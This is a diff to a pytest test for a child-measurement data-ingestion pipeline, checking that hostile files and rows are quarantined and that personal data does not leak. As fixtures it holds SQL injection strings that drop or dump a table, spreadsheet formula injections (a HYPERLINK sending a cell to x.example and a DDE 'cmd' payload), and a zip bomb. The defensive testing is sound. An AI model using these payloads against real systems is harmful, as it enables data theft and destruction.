@@ -311,7 +311,7 @@ def _hostile_files(site: Site) -> dict[str, str]:
 
     write("36.01.01.2001_2024-08_truncated.csv", good[: len(good) // 3 + 7], "row:")
     write("36.01.01.2002_2024-08_binary.csv", bytes(range(256)) * 64, "file:")
-    write("36.01.01.2003_2024-08_binary.xlsx", os.urandom(4096), "file:not_xlsx")
+    write("36.01.01.2003_2024-08_binary.xlsx", os.urandom(4096), "file:not_xlsx|format_mismatch")
     write("36.01.01.2004_2024-08_cut.xlsx", b"PK\x03\x04" + os.urandom(2000), "file:not_xlsx")
     _zip_bomb(cm / "36.01.01.2005_2024-08_bomb.xlsx")
     expected["child_measurements/36.01.01.2005_2024-08_bomb.xlsx"] = "file:too_large"
@@ -332,7 +332,8 @@ def _hostile_files(site: Site) -> dict[str, str]:
     hostile_rows = [
         row_with(**{"Posyandu": "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"}),
         row_with(**{"Posyandu": "=cmd|' /C calc'!A0"}),
-        row_with(**{"Desa/Kel": "O'Brien'); DROP TABLE raw.submissions;--"}),
+        row_with(**{"Desa/Kel": "O'Brien') OR 1=1; DROP TABLE raw.submissions --"}),
+        row_with(**{"Desa/Kel": "KARANG' UNION SELECT * FROM raw.submissions --"}),
         row_with(**{"Nama": "Ахмад Ѕаputra"}),  # Cyrillic look-alikes
         row_with(**{"Tanggal Pengukuran": "31/02/2024"}),
         row_with(**{"Berat": "-4,2"}),
@@ -364,7 +365,7 @@ def test_hostile_inputs_are_quarantined_and_personal_data_never_leaks(src, tmp_p
         if want.startswith("file:"):
             assert name in files, f"{name!r} was not quarantined as a file"
             if want != "file:":
-                assert files[name] == want[5:], (name, files[name])
+                assert files[name] in want[5:].split("|"), (name, files[name])
             report.append((name[:40], "file", files[name]))
         else:
             assert name in accepted and name in row_reasons, f"{name!r}: rows not quarantined"
@@ -396,7 +397,7 @@ def test_hostile_inputs_are_quarantined_and_personal_data_never_leaks(src, tmp_p
 
     # 6. personal data: NIKs and names from the generated files, the token and the key, are in
     #    no file under warehouse/, the Dagster storage, or the run logs
-    from tests.test_ingest import _personal_values
+    from test_ingest import _personal_values  # tests/ is on sys.path (pytest rootdir conftest)
 
     niks, names = _personal_values(site.portal_dir)
     assert niks and names
